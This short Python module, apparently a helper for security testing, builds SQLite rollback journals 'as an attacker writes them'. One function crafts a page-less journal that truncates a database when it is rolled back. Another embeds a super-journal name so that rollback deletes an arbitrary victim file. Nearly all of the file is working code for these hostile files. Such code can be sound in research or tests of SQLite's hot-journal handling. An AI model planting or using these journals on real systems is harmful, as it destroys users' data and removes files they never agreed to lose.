"""Rollback journals as an attacker writes them, after SQLite's description of its file format."""

import struct
from pathlib import Path

_MAGIC = bytes.fromhex("d9d505f920a163d7")
_SECTOR_BYTES = 512
_PENDING_BYTE = 0x40000000


def bare(database: Path, pages: int) -> bytes:
    """Return a journal without a page: who rolls it back cuts the database to its first pages."""
    header = struct.pack(">IIIII", 0, 1234, pages, _SECTOR_BYTES, _page_bytes(database))
    return (_MAGIC + header).ljust(_SECTOR_BYTES, b"\0")


def naming(database: Path, victim: Path) -> bytes:
    """Return a journal that names a super-journal: who has rolled it back unlinks that file, too."""
    page_bytes = _page_bytes(database)
    name = bytes(victim)
    pages = database.stat().st_size // page_bytes
    tail = struct.pack(">I", _PENDING_BYTE // page_bytes + 1) + name
    tail += struct.pack(">II", len(name), sum(name)) + _MAGIC
    return bare(database, pages) + tail


def _page_bytes(database: Path) -> int:
    with database.open("rb") as file:
        (page_bytes,) = struct.unpack(">H", file.read(18)[16:])
    return 65_536 if page_bytes == 1 else page_bytes
